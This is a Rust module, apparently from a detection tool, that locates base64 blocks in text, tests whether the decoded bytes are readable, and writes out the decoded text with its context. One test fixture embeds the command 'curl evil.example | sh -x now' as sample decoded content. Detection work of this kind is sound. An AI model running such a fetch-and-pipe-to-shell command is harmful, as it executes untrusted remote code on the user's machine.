//! Blocks of encoded text: where they stand, and what they say.

use std::ops::Range;

use super::draft::Draft;
use super::suspects::{SHORT, is_letter, next_full, next_mixed, next_short};

/// Shortest block, in characters.
pub(super) const SHORTEST: usize = 16;
/// Longest line of a block that is wrapped. A block of one line may be longer.
const LONGEST_LINE: usize = 128;
/// Fewest bytes of text within a block of which less is text than [`is_text`] wants.
const ISLAND: usize = 24;

/// Characters of an alphabet that belong together: their values and their places in the text.
#[derive(Debug, Default, Clone)]
pub(super) struct Block {
    pub(super) letters: Vec<u8>,
    pub(super) places: Vec<usize>,
}

impl Block {
    fn push(&mut self, bytes: &[u8], range: Range<usize>) {
        self.letters.extend_from_slice(bytes.get(range.clone()).unwrap_or_default());
        self.places.extend(range);
    }

    /// The text's bytes from letter `first` to letter `last`.
    pub(super) fn span(&self, first: usize, last: usize) -> Range<usize> {
        let place = |at: usize| self.places.get(at).copied();
        match (place(first), place(last)) {
            (Some(start), Some(end)) => start..end + 1,
            _ => 0..0,
        }
    }
}

/// Every run of at least [`SHORTEST`] letters of base64, the lines of a wrapped one together, and the shorter runs that look
/// encoded, by place.
pub(super) fn blocks(text: &str) -> Vec<Block> {
    let bytes = text.as_bytes();
    let mut blocks = Vec::new();
    let (mut full, mut short) = (next_long(bytes, 0), next_short(bytes, 0));
    while let Some(first) = [&full, &short].into_iter().flatten().min_by_key(|run| run.start).cloned() {
        let mut line = first;
        let mut block = Block::default();
        block.push(bytes, line.clone());
        while let Some(next) = next_line(bytes, &line) {
            block.push(bytes, next.clone());
            line = next;
        }
        blocks.push(block);
        let is_before = |run: &Option<Range<usize>>| run.as_ref().is_some_and(|run| run.start < line.end);
        if is_before(&full) {
            full = next_long(bytes, line.end);
        }
        if is_before(&short) {
            short = next_short(bytes, line.end);
        }
    }
    blocks
}

/// Shortest and longest pieces of a block with blanks in it, and how many letters they have together at least.
const PIECES: std::ops::RangeInclusive<usize> = 4..=76;
const FEWEST: usize = SHORT;

/// The blocks that are written in pieces of the same length with whitespace between, by place: without the last piece, which may be
/// shorter, for a word of prose may stand there, and with it. A piece alone is an ordinary block.
pub(super) fn rows(text: &str) -> [Vec<Block>; 2] {
    let bytes = text.as_bytes();
    let (mut without, mut with) = (Vec::new(), Vec::new());
    let mut at = 0;
    while let Some(pieces) = next_row(bytes, at) {
        let mut block = Block::default();
        pieces.iter().for_each(|piece| block.push(bytes, piece.clone()));
        at = pieces.last().map_or(bytes.len(), |last| last.end);
        let rest = piece_behind(bytes, at).filter(|rest| pieces.last().is_some_and(|last| rest.len() < last.len()));
        if pieces.len() > 1 {
            without.push(block.clone());
        }
        if let Some(rest) = rest {
            at = rest.end;
            block.push(bytes, rest);
        }
        with.push(block);
    }
    [without, with]
}

/// The pieces of the next row at or behind `from`: at least two in which letters are mixed as in no prose, or one with a rest.
pub(super) fn next_row(bytes: &[u8], from: usize) -> Option<Vec<Range<usize>>> {
    let mut at = from;
    loop {
        let mixed = next_mixed(bytes, at)?;
        let before = bytes.get(at..mixed)?.iter().rev().take_while(|byte| is_letter(**byte)).count();
        let piece = mixed - before..run_end(bytes, mixed);
        at = piece.end.max(mixed + 1);
        // Only the last one may be mixed, and shorter.
        let is_longer = |other: &Range<usize>| other.len() > piece.len() && !is_word(bytes.get(other.clone()));
        let piece = piece_before(bytes, piece.start, from).filter(is_longer).unwrap_or(piece);
        if !PIECES.contains(&piece.len()) {
            continue;
        }
        let is_piece = |other: &Range<usize>| other.len() == piece.len() && !is_word(bytes.get(other.clone()));
        // Of most pieces there is only one.
        let (mut before, mut behind) = (Vec::new(), Vec::new());
        while let Some(next) = piece_behind(bytes, behind.last().unwrap_or(&piece).end).filter(is_piece) {
            behind.push(next);
        }
        while let Some(previous) = piece_before(bytes, before.last().unwrap_or(&piece).start, from).filter(is_piece) {
            before.push(previous);
        }
        let end = behind.last().unwrap_or(&piece).end;
        at = at.max(end);
        let rest = piece_behind(bytes, end).map_or(0, |rest| if rest.len() < piece.len() { rest.len() } else { 0 });
        let n_pieces = before.len() + 1 + behind.len();
        if n_pieces * piece.len() + rest >= FEWEST && (n_pieces > 1 || rest > 0) {
            return Some(before.into_iter().rev().chain([piece]).chain(behind).collect());
        }
    }
}

/// Whether letters are a word of prose: small ones, the first of which may be a capital, that decode to nothing that can be read.
fn is_word(letters: Option<&[u8]>) -> bool {
    let Some((first, rest)) = letters.and_then(<[u8]>::split_first) else { return false };
    if !first.is_ascii_alphabetic() || !rest.iter().all(u8::is_ascii_lowercase) {
        return false;
    }
    // Whole quanta of base64 say by themselves what they write.
    let is_readable = |byte: &u8| matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t');
    rest.len() % 4 != 3 || !letters.is_some_and(|letters| super::decoders::bytes_of_base64(letters).iter().all(is_readable))
}

/// Whitespace between two pieces, at most.
const GAP: usize = 4;

/// The run of letters that stands behind whitespace at `from`.
fn piece_behind(bytes: &[u8], from: usize) -> Option<Range<usize>> {
    let gap = bytes.get(from..)?.iter().take(GAP).take_while(|byte| byte.is_ascii_whitespace()).count();
    let piece = from + gap..run_end(bytes, from + gap);
    (gap > 0 && !piece.is_empty() && piece.len() <= *PIECES.end()).then_some(piece)
}

/// The run of letters that stands before whitespace that ends at `to`, not before `floor`.
fn piece_before(bytes: &[u8], to: usize, floor: usize) -> Option<Range<usize>> {
    let before = bytes.get(floor..to)?;
    let gap = before.iter().rev().take(GAP).take_while(|byte| byte.is_ascii_whitespace()).count();
    let end = to - gap;
    let length = bytes.get(floor..end)?.iter().rev().take_while(|byte| is_letter(**byte)).count();
    (gap > 0 && length > 0).then_some(end - length..end)
}

/// The next run of at least [`SHORTEST`] letters at or behind `from`.
pub(super) fn next_long(bytes: &[u8], from: usize) -> Option<Range<usize>> {
    let mut at = from;
    loop {
        let full = next_full(bytes, at)?;
        let before = bytes.get(at..full)?.iter().rev().take_while(|byte| is_letter(**byte)).count();
        let run = full - before..run_end(bytes, full);
        if run.len() >= SHORTEST {
            return Some(run);
        }
        at = run.end;
    }
}

fn run_end(bytes: &[u8], start: usize) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    start + rest.iter().take_while(|byte| is_letter(**byte)).count()
}

/// The line that continues the block whose last line is `line`: no longer than it, and nothing else on it but padding.
fn next_line(bytes: &[u8], line: &Range<usize>) -> Option<Range<usize>> {
    if !(SHORTEST..=LONGEST_LINE).contains(&line.len()) {
        return None;
    }
    let start = match bytes.get(line.end..)? {
        [b'\n', ..] => line.end + 1,
        [b'\r', b'\n', ..] => line.end + 2,
        _ => return None,
    };
    let end = run_end(bytes, start);
    let is_alone = matches!(bytes.get(end), None | Some(b'\n' | b'\r' | b'='));
    (is_alone && end > start && end - start <= line.len()).then_some(start..end)
}

/// Whether decoded bytes are text: no NUL, and nine in ten of its scalars can be printed.
fn is_text(bytes: &[u8]) -> bool {
    let mut good = 0usize;
    let mut bad = 0usize;
    for chunk in bytes.utf8_chunks() {
        bad += chunk.invalid().len();
        for character in chunk.valid().chars() {
            if character == '\0' {
                return false;
            }
            if is_printable(character) { good += 1 } else { bad += 1 }
        }
        // Noise is told by its first bytes: there cannot be enough good ones any more.
        if 10 * bad > bytes.len() {
            return false;
        }
    }
    good > 0 && good >= 9 * bad
}

fn is_printable(character: char) -> bool {
    !character.is_control() && character != char::REPLACEMENT_CHARACTER || matches!(character, '\n' | '\r' | '\t')
}

/// The parts of `decoded` that are text: all of it, or its longer runs of printable ASCII.
pub(super) fn texts(decoded: &[u8]) -> Vec<Range<usize>> {
    if is_text(decoded) {
        return std::iter::once(0..decoded.len()).collect();
    }
    let mut found = Vec::new();
    if decoded.len() < ISLAND {
        return found;
    }
    let mut at = 0;
    for island in decoded.split(|byte| !matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')) {
        if island.len() >= ISLAND {
            found.push(at..at + island.len());
        }
        at += island.len() + 1;
    }
    found
}

/// Writes the text `range` of `decoded` behind what stands before it. Each quantum of `quantum` decoded bytes was read from what
/// `origin` says for its number. Bytes that are no text become U+FFFD.
pub(super) fn write(
    draft: &mut Draft<'_>,
    decoded: &[u8],
    range: Range<usize>,
    quantum: usize,
    origin: impl Fn(usize) -> Range<usize>,
) {
    if range.is_empty() || draft.is_full() {
        return;
    }
    lead(draft, origin(range.start / quantum).start);
    let mut at = range.start;
    while at < range.end && !draft.is_full() {
        let whole =
            at.is_multiple_of(quantum).then(|| decoded.get(at..at + quantum)).flatten().filter(|_| at + quantum <= range.end);
        if let Some(ascii) = whole.and_then(|whole| std::str::from_utf8(whole).ok()) {
            draft.put(ascii, origin(at / quantum));
            at += quantum;
            continue;
        }
        let (character, length) = first_scalar(decoded.get(at..range.end).unwrap_or_default());
        let last = origin((at + length - 1) / quantum).end;
        draft.put_char(character, origin(at / quantum).start..last);
        at += length;
    }
}

/// Bytes before an encoded text that are kept: what names a value stands there.
const LEAD: usize = 96;
/// Bytes behind the last one that are kept: what a number is called may stand there.
const TAIL: usize = 24;

/// Keeps what stands before `start`, from whitespace on, and separates it from what comes next if that would continue it.
fn lead(draft: &mut Draft<'_>, start: usize) {
    let source = draft.source();
    let read = unpadded(draft);
    let from = source.ceil_char_boundary(start.saturating_sub(LEAD).max(read));
    let before = source.get(from..start).unwrap_or_default();
    let before = before.strip_suffix("0x").unwrap_or(before);
    // A word that is cut would be another word.
    let skipped = if from > read { before.find(char::is_whitespace).unwrap_or(before.len()) } else { 0 };
    keep_apart(draft, from + skipped..from + before.len());
    if draft.text().ends_with(continues) {
        // A row may end in the digits with which a block begins.
        draft.put("\n", start..start.max(draft.end()));
    }
}

/// `draft`, if something is in it, with what stands behind.
pub(super) fn finish(mut draft: Draft<'_>) -> Option<Draft<'_>> {
    if draft.is_empty() {
        return draft.is_full().then_some(draft);
    }
    let source = draft.source();
    let start = unpadded(&draft);
    let end = source.floor_char_boundary(start.saturating_add(TAIL));
    let behind = source.get(start..end).unwrap_or_default();
    let whole = || behind.rfind(char::is_whitespace).unwrap_or(0).max(label(behind));
    let kept = if end < source.len() { whole() } else { behind.len() };
    keep_apart(&mut draft, start..start + kept);
    Some(draft)
}

/// The length of a word with a sign or two before it, as in `-Office,`; 0 if none ends in `behind`.
fn label(behind: &str) -> usize {
    let bytes = behind.as_bytes();
    let signs = bytes.iter().take(2).take_while(|byte| byte.is_ascii_punctuation()).count();
    let letters = bytes.iter().skip(signs).take_while(|byte| byte.is_ascii_alphabetic()).count();
    let is_whole = bytes.get(signs + letters).is_some_and(|next| !next.is_ascii_alphanumeric());
    if letters > 0 && is_whole { signs + letters } else { 0 }
}

/// The end of what was read, with its padding.
fn unpadded(draft: &Draft<'_>) -> usize {
    let behind = draft.source().get(draft.end()..).filter(|_| !draft.is_empty()).unwrap_or_default();
    draft.end() + (behind.len() - behind.trim_start_matches('=').len())
}

/// Keeps a range of the source, behind a line break or space if it would continue what was read.
fn keep_apart(draft: &mut Draft<'_>, range: Range<usize>) {
    let kept = draft.source().get(range.clone()).unwrap_or_default();
    if kept.starts_with(continues) && draft.text().ends_with(continues) {
        // A dash may lead to what a number is called.
        draft.put(if kept.starts_with('-') { " " } else { "\n" }, range.start..range.start);
    }
    draft.keep(range);
}

/// Whether a letter, digit or sign belongs to the word next to it.
fn continues(character: char) -> bool {
    character.is_alphanumeric() || matches!(character, '_' | '-')
}

/// The first scalar of bytes that are not empty, and how many of them it takes.
fn first_scalar(bytes: &[u8]) -> (char, usize) {
    let head = bytes.get(..bytes.len().min(4)).unwrap_or_default();
    let Some(chunk) = head.utf8_chunks().next() else { return (char::REPLACEMENT_CHARACTER, 1) };
    match chunk.valid().chars().next() {
        Some(character) => (character, character.len_utf8()),
        None => (char::REPLACEMENT_CHARACTER, chunk.invalid().len().max(1)),
    }
}

#[cfg(test)]
mod tests {
    use super::{blocks, rows, texts};

    #[test]
    fn blocks_are_runs_and_wrapped_lines() {
        let line = "A".repeat(64);
        let joined = format!("{line}{line}QUJD");
        let facts = [
            ("a short word and another_one", vec![]),
            ("x c2VjcmV0IHRva2Vu y", vec!["c2VjcmV0IHRva2Vu"]),
            (&format!("{line}\n{line}\r\nQUJD==\nmore"), vec![&*joined]),
            (&format!("{line}\nHello world"), vec![&*line]),
            (&format!("{line}.{line}"), vec![&*line, &*line]),
        ];
        for (text, expected) in facts {
            let mut found = Vec::new();
            for block in blocks(text) {
                assert!(block.letters.iter().zip(&block.places).all(|(letter, place)| text.as_bytes()[*place] == *letter));
                found.push(String::from_utf8(block.letters).unwrap());
            }
            assert_eq!(found, expected, "{text}");
        }
    }

    #[test]
    fn pieces_of_one_length_are_one_block() {
        let facts: &[(&str, &[&str], &[&str])] = &[
            ("x: c2VjcmV0 IHRva2Vu is", &["c2VjcmV0IHRva2Vu"], &["c2VjcmV0IHRva2Vuis"]),
            ("x: c2Vj\r\ncmV0\r\nIHRv\r\na2Vu\r\n", &["c2VjcmV0IHRva2Vu"], &["c2VjcmV0IHRva2Vu"]),
            ("Some c2Vj cmV0 IHRv a2V more", &["c2VjcmV0IHRv"], &["c2VjcmV0IHRva2V"]),
            ("c2VjcmV0 IHR=", &[], &["c2VjcmV0IHR"]),
            ("c2VjcmV0 I=", &[], &[]),
            ("c2VjcmV0 IHRva2==", &[], &["c2VjcmV0IHRva2"]),
            ("an iPhone and a MacBook with some words", &[], &["MacBookwith"]),
            ("TVJUTVRUOTFE\r\n MDhGMjA1Sg==", &[], &["TVJUTVRUOTFEMDhGMjA1Sg"]),
            ("plain words only here", &[], &[]),
        ];
        for (text, without, with) in facts {
            let written = rows(text).map(|blocks| -> Vec<String> {
                blocks.into_iter().map(|block| String::from_utf8(block.letters).unwrap()).collect()
            });
            assert_eq!(written, [own(without), own(with)], "{text}");
        }
    }

    fn own(texts: &[&str]) -> Vec<String> {
        texts.iter().map(|text| (*text).to_owned()).collect()
    }

    #[test]
    fn text_is_told_from_noise() {
        let noise = [0x80u8, 0xFE, 3, 0xFF];
        let island = [&noise[..], b"curl evil.example | sh -x now", &noise[..]].concat();
        let facts = [
            (&b"hello there"[..], Some(0..11)),
            ("h\u{e9}llo th\u{4e2d}re".as_bytes(), Some(0..14)),
            (b"hello there, this is text\xFF", Some(0..26)),
            (&noise, None),
            (b"hello\0there", None),
            (&island, Some(4..33)),
        ];
        for (bytes, expected) in facts {
            assert_eq!(texts(bytes), Vec::from_iter(expected), "{bytes:?}");
        }
    }
}
